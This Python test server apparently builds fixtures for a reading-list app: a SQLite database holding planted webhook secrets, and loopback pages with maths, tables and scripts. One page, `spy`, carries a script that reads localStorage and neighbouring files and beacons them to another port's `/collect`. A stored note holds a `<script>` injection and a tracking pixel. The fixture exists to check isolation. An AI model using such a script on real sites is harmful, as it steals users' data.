#!/usr/bin/env python3
"""Serves pages on loopback for Scripts/readings-demo, under three ports and two host names, and writes the reading list that
has saved them: a database `peek.db` in WAL mode, whose last rows are in `peek.db-wal`, and the JSON of a webhook. Stories
and pictures are those of news_site.py. `GET /report` counts the requests. The content is the same in each run; only the
ports differ.

usage: readings_site.py --out DIR [--seconds N]    prints the three addresses on the first line; ends after the given time,
or when its parent ends
"""
import argparse, copy, datetime, http.server, json, os, pathlib, shutil, sqlite3, sys, tempfile, threading, time, urllib.parse
import uuid

import news_site

# The time of the first fetch. Times of the list are relative to it.
NOW = datetime.datetime(2026, 11, 25, 12, tzinfo=datetime.timezone.utc)

# Values of the table `settings`, which no output may contain.
SECRETS = {
    "webhook_url": "https://hooks.quayside.example/peek/5f0c7e1b93aa",
    "webhook_api_key": "peek-demo-key-81d6c0f2b7e94a35",
    "last_sync": "2026-11-25T11:58:13Z",
}

SCHEMA = """
CREATE TABLE items (id TEXT PRIMARY KEY, type TEXT NOT NULL DEFAULT 'page', url TEXT, content TEXT, created_at TEXT NOT NULL,
  updated_at TEXT NOT NULL, deleted_at TEXT);
CREATE TABLE tags (id INTEGER PRIMARY KEY AUTOINCREMENT, name TEXT NOT NULL UNIQUE, frequency INTEGER NOT NULL DEFAULT 0,
  last_used TEXT, frecency_score REAL NOT NULL DEFAULT 0, created_at TEXT, updated_at TEXT);
CREATE TABLE item_tags (item_id TEXT NOT NULL REFERENCES items(id) ON DELETE CASCADE,
  tag_id INTEGER NOT NULL REFERENCES tags(id) ON DELETE CASCADE, created_at TEXT, PRIMARY KEY (item_id, tag_id));
CREATE TABLE settings (key TEXT PRIMARY KEY, value TEXT);
"""

# Port, path, hours before NOW, tags. The three ports are the numbers 0, 1 and 2; the last has the name localhost.
PAGES = [
    (0, "/stories/lower-quay", 3, "harbour,tides"),
    (0, "/stories/tram-line-4", 5, "trams,bridges"),
    (0, "/stories/fog-basin", 9, "weather,harbour"),
    (0, "/stories/signal-box", 26, "trams,software"),
    (0, "/stories/bridge-sensors", 30, "bridges,software"),
    (0, "/stories/muehle", 50, "bread,deutsch"),
    (0, "/stories/watashi", 74, "日本語,harbour"),
    (0, "/stories/chess-hall", 80, "عربي,chess"),
    (0, "/moved/quay", 100, "tides"),
    (0, "/missing", 120, "tides,r&d"),
    (0, "/slow", 130, "trams"),
    (1, "/notes/tide-sum", 27, "mathematics,tides"),
    (1, "/notes/catenary", 200, "mathematics,bridges"),
    (1, "/notes/timetable", 300, "trams"),
    (1, "/notes/plain", 400, "software"),
    (1, "/notes/xhtml", 500, "software,c++"),
    (1, "/play/spy", 28, "software"),
    (1, "/files/map.pdf", 640, "harbour"),
    (2, "/stories/burst-pipe", 12, "libraries"),
    (2, "/stories/catalogue-search", 700, "libraries,software"),
    (2, "/stories/paper-growth", 720, "libraries,mathematics"),
    (2, "/stories/vid-shelf", 900, "libraries"),
]
# Pages of the database's log: saved after the last checkpoint.
LATE = [
    (0, "/stories/crust", 1, "bread"),
    (0, "/stories/lower-quay", .5, "harbour,repairs"),  # saved before, with other tags
    (2, "/stories/sum-of-squares", .8, "mathematics,chess"),
]
DELETED = [(0, "/stories/old-regatta", 40, "rowing"), (2, "/stories/night-ferry", 60, "harbour")]

NOTES = [
    (2, "tides", r"""The height of the water as a sum of waves, from the table at the harbour office:

$$h(t) = h_0 + \sum_{k=1}^{n} A_k \cos(\omega_k t + \varphi_k)$$

With $n = 37$ the error is below *five centimetres*. #tides #mathematics"""),
    (29, "bridges", r"A cable sags by $\frac{q \ell^2}{8 H$, if the sheet was copied right. #bridges"),
    (33, "", """What to read on the ferry:

1. the paper about **rye crust**
2. the timetable of line 4
3. `may_set`, once more

> A rook behind a passed pawn.

#Bread #trams #café"""),
    (49, "عربي", "الوصول عند منتصف المد أسهل، فالتيار عند المدخل الضيق أضعف. #ميناء"),
    (77, "日本語", "渡し船は冬の時刻表。最終便は三十分早い。 #渡し船"),
    (90, "software", "A banner like this one must stay text: <script>document.title = 'ran'</script> "
                     "![count](https://count.quayside.example/pixel.gif)"),
    (300, "", "Address of the archive: https://archive.quayside.example/" + "drawings/" * 12 + "sheet-1877-b.html"),
    (820, "libraries", "Order the map of 1904.\nGloves are lent at the door."),
]
LATE_NOTES = [(.2, "harbour", "The lower quay is open again. #tides")]
TAGSETS = [(31, "bread,baking"), (310, "chess,endgames")]

# Uses and days since the last one, of tags whose numbers the demo checks; the others are used once, ten days ago.
USES = {"tides": (6, 3), "harbour": (9, 14), "libraries": (4, 0), "mathematics": (5, 7), "software": (12, 35)}


def time_text(hours):
    return (NOW - datetime.timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")


def identifier(*parts):
    return str(uuid.uuid5(uuid.NAMESPACE_URL, " ".join(map(str, parts))))


def write_database(folder, bases):
    """Writes the database and its log, as they are on a device whose app is running."""
    with tempfile.TemporaryDirectory() as temporary:
        path = pathlib.Path(temporary) / "peek.db"
        database = sqlite3.connect(path, isolation_level=None)
        database.execute("PRAGMA journal_mode = WAL")
        database.execute("PRAGMA wal_autocheckpoint = 0")
        database.executescript(SCHEMA)

        def tag(name):
            uses, days = USES.get(name, (1, 10))
            used = time_text(24 * days)
            database.execute("INSERT OR IGNORE INTO tags (name, frequency, last_used, created_at, updated_at) VALUES (?, ?, ?, ?, ?)",
                             (name, uses, used, used, used))
            return database.execute("SELECT id FROM tags WHERE name = ?", (name,)).fetchone()[0]

        def item(kind, hours, tags, url=None, content=None, deleted=None):
            id = identifier(kind, hours, url and urllib.parse.urlsplit(url).path, content)
            at = time_text(hours)
            database.execute("INSERT INTO items VALUES (?, ?, ?, ?, ?, ?, ?)", (id, kind, url, content, at, at, deleted))
            for name in filter(None, tags.split(",")):
                database.execute("INSERT INTO item_tags VALUES (?, ?, ?)", (id, tag(name), at))

        def pages(list, deleted=None):
            for port, path, hours, tags in list:
                item("page", hours, tags, url=bases[port] + path, deleted=deleted)

        pages(PAGES)
        pages(DELETED, deleted=time_text(1))
        item("page", 650, "harbour", url="the tide table on the wall")
        for hours, tags, text in NOTES:
            item("text", hours, tags, content=text)
        item("text", 41, "", content="A note that was deleted.", deleted=time_text(2))
        for hours, tags in TAGSETS:
            item("tagset", hours, tags)
        item("image", 42, "harbour", content="a picture of a newer version")
        for key, value in SECRETS.items():
            database.execute("INSERT INTO settings VALUES (?, ?)", (key, value))
        database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        pages(LATE)
        for hours, tags, text in LATE_NOTES:
            item("text", hours, tags, content=text)
        # Closing the database would move the log into it.
        for name in ("peek.db", "peek.db-wal"):
            shutil.copyfile(path.with_name(name), folder / name)
        database.close()


def write_webhook(folder, bases):
    """Writes the pages with scripts of their own as Peek sends them to a webhook: two that play, one whose text a script makes."""
    saved = [{"id": identifier(path), "url": bases[1] + path, "tags": ["play"], "saved_at": time_text(hours)}
             for path, hours in (("/play/lamp", 2), ("/play/spy", 4))]
    (folder / "played.json").write_text(json.dumps({"urls": saved}, indent=1) + "\n")
    saved = [{"id": identifier("/app/board"), "url": bases[1] + "/app/board", "tags": ["ferries"], "saved_at": time_text(6)}]
    (folder / "made.json").write_text(json.dumps({"urls": saved}, indent=1) + "\n")


# -------------------------------------------------------------------------------------------------------------- site

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title}</title><meta name="viewport" content="width=device-width">{head}</head>
<body><main><article><h1>{title}</h1>
{body}</article></main></body></html>
"""


def prose(subject):
    return news_site.p(news_site.BANK[subject])


class Site:
    """The answers of one port."""

    def __init__(self, news, base, other):
        # The ports share the pictures, which take a while to draw.
        self.news = copy.copy(news)
        self.news.base = base
        self.base = base
        # Another port, whose pages a script of this one has no right to read.
        self.other = other

    def answer(self, path):
        """Returns status, type, body and header fields of a path."""
        made = {"/notes/tide-sum": self.tide_sum, "/notes/catenary": self.catenary, "/notes/timetable": self.timetable,
                "/play/lamp": self.lamp, "/play/spy": self.spy, "/slow": self.slow, "/app/board": self.board}
        if path in made:
            return 200, "text/html; charset=utf-8", made[path]().encode(), {}
        if path == "/moved/quay":
            return 301, "text/plain", b"", {"Location": self.base + "/stories/tide-table"}
        if path == "/notes/plain":
            return 200, "text/plain; charset=utf-8", ("# may_set\n\nA text without markup: a < b && c > d.\n" * 12).encode(), {}
        if path == "/notes/xhtml":
            return 200, "application/xhtml+xml", self.xhtml().encode(), {}
        if path == "/app/board.css":
            return 200, "text/css", b"#departures { padding: 0; list-style: none }\n", {}
        if path == "/app/board.json":
            sailings = [{"pier": pier, "at": f"{6 + pier}:40"} for pier in range(1, 6)]
            return 200, "application/json", json.dumps(sailings).encode(), {}
        if path == "/files/map.pdf":
            return 200, "application/pdf", b"%PDF-1.4\n% no pages\n", {}
        return self.news.answer(path)

    def tide_sum(self):
        """A page that MathJax would typeset."""
        return PAGE.format(title="The tide as a sum of waves", head='<script>MathJax = { tex: { inlineMath: [["$", "$"]] } };</script>'
                           '<script id="MathJax-script" async src="/mathjax/tex-chtml.js"></script>', body=(
            prose("harbour") + r"<p>The height at the time $t$ is a sum of waves with known periods $2\pi/\omega_k$:</p>"
            r"<p>$$h(t) = h_0 + \sum_{k=1}^{n} A_k \cos(\omega_k t + \varphi_k)$$</p>"
            r"<p>The amplitudes $A_k$ and the phases $\varphi_k$ follow from a year of measurements.</p>" + prose("weather")))

    def catenary(self):
        """A page with MathML."""
        formula = ('<math display="block"><mrow><mi>y</mi><mo>=</mo><mi>a</mi><mi>cosh</mi><mfrac><mi>x</mi><mi>a</mi></mfrac>'
                   '</mrow></math>')
        return PAGE.format(title="Why a hanging cable is not a parabola", head="", body=(
            prose("bridge") + f"<p>A cable that carries only its own weight hangs in a catenary:</p>{formula}" + prose("tram")))

    def timetable(self):
        """A page with a table that is wider than a phone."""
        stops = ["Depot", "Market", "Old bridge", "Reading room", "Ropewalk", "Customs house", "Pier 3", "Pier 7", "Lighthouse", "Hill"]
        rows = "".join(f"<tr><th>Car {car}</th>" + "".join(f"<td>{5 + (car * 12 + i * 4) // 60}:{(car * 12 + i * 4) % 60:02}</td>"
                                                          for i in range(len(stops))) + "</tr>" for car in range(1, 9))
        return PAGE.format(title="The whole timetable of line 4", head="", body=(
            prose("tram") + "<table><thead><tr><th></th>" + "".join(f"<th>{stop}</th>" for stop in stops)
            + f"</tr></thead><tbody>{rows}</tbody></table>" + prose("bridge")))

    def xhtml(self):
        return ('<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><title>A page that is XML'
                f"</title></head><body><h1>A page that is XML</h1>{prose('library')}</body></html>\n")

    def slow(self):
        time.sleep(1.5)
        return PAGE.format(title="A page that takes its time", head="", body=prose("tram") + prose("weather"))

    def board(self):
        """A page whose text, colours and closing words a script makes."""
        return PAGE.format(title="Departures", head='<link rel="stylesheet" href="/app/board.css">', body=(
            '<ul id="departures"></ul><board-note></board-note><script>'
            'fetch("/app/board.json").then(function (answer) { return answer.json(); }).then(function (sailings) {'
            'for (var sailing of sailings) { var row = document.createElement("li");'
            'row.textContent = "The ferry " + "leaves pier " + sailing.pier + " at " + sailing.at;'
            'document.getElementById("departures").append(row); }'
            'document.styleSheets[0].insertRule("#departures li { border-bottom: 3px " + "dashed teal }"); });'
            'customElements.define("board-note", class extends HTMLElement { connectedCallback() {'
            'this.attachShadow({ mode: "closed" }).textContent = "Boarding ends " + "five minutes before."; } });</script>'))

    def lamp(self):
        """A page whose script works without the network."""
        return PAGE.format(title="A lamp to switch", head="", body=(
            "<p><button id='switch' aria-pressed='false'>The lamp is off</button></p><script>"
            "var lamp = document.getElementById('switch'); lamp.onclick = function () { var on = lamp.getAttribute('aria-pressed') === 'false';"
            "lamp.setAttribute('aria-pressed', on); lamp.textContent = 'The lamp is ' + (on ? 'on' : 'off'); };</script>" + prose("library")))

    def spy(self):
        """A page that reads its neighbours and sends what it got."""
        return PAGE.format(title="A page that reads its neighbours", head="", body=(
            prose("chess") + '<p id="got">nothing</p><script>function got(text) { document.getElementById("got").textContent = text;'
            f'new Image().src = "{self.other}/collect?" + encodeURIComponent(text.slice(0, 99)); }}'
            'try { got(localStorage.getItem("sitegen") || ""); } catch (error) {}'
            'for (var name of ["../index.html", "../notes.html", "../feed.json", "seals.json"]) {'
            'fetch(name).then(function (answer) { return answer.text(); }).then(got, function () {});'
            'var frame = document.createElement("iframe"); frame.src = name; frame.hidden = true;'
            'frame.onload = function () { try { got(this.contentDocument.body.textContent); } catch (error) {} };'
            'document.body.append(frame); }</script>'))


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    lock = threading.Lock()
    report = {"requests": 0, "pages": 0, "agents": [], "at_once": {}, "collected": 0}
    open = {}

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        if path == "/report":
            return self.send(200, "application/json", json.dumps(self.report).encode(), {})
        host = self.headers.get("Host", "").split(":")[0]
        agent = self.headers.get("User-Agent", "")
        with self.lock:
            self.report["requests"] += 1
            self.report["pages"] += not path.startswith(("/media/", "/mathjax/")) and not path.endswith(".gif")
            self.report["collected"] += path == "/collect"
            self.open[host] = self.open.get(host, 0) + 1
            self.report["at_once"][host] = max(self.report["at_once"].get(host, 0), self.open[host])
            if agent not in self.report["agents"]:
                self.report["agents"].append(agent)
        try:
            self.send(*self.server.site.answer(path))
        finally:
            with self.lock:
                self.open[host] -= 1

    def send(self, status, kind, body, fields):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in fields.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        """Ignores the end of a client that is killed."""
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("--out", type=pathlib.Path, required=True)
    options.add_argument("--seconds", type=float, default=300)
    options = options.parse_args()
    servers = [Server(("127.0.0.1", 0), Handler) for _ in range(3)]
    bases = [f"http://{name}:{server.server_address[1]}" for name, server in zip(("127.0.0.1", "127.0.0.1", "localhost"), servers)]
    news = news_site.Site(bases[0])
    for index, server in enumerate(servers):
        server.site = Site(news, bases[index], bases[(index + 1) % 3])
        threading.Thread(target=server.serve_forever, daemon=True).start()
    options.out.mkdir(parents=True, exist_ok=True)
    write_database(options.out, bases)
    write_webhook(options.out, bases)
    print(*bases, flush=True)
    parent, end = os.getppid(), time.monotonic() + options.seconds
    while time.monotonic() < end and os.getppid() == parent:
        time.sleep(.2)


if __name__ == "__main__":
    main()
